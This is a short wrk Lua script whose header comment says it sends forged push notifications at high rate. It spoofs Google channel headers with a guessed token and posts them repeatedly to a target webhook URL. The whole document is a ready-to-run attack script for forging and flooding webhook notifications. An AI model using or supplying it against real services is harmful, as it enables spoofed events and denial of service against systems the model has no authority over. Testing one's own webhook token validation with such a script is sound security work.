-- Sends forged pushes, a hundred a second on each connection: wrk -s forged.lua URL -- CHANNEL RESOURCE
local headers = {}

function init(args)
  headers["X-Goog-Channel-ID"] = args[1]
  headers["X-Goog-Channel-Token"] = "guessed"
  headers["X-Goog-Resource-ID"] = args[2]
  headers["X-Goog-Resource-State"] = "exists"
end

function request()
  return wrk.format("POST", nil, headers, "")
end

function delay()
  return 10
end
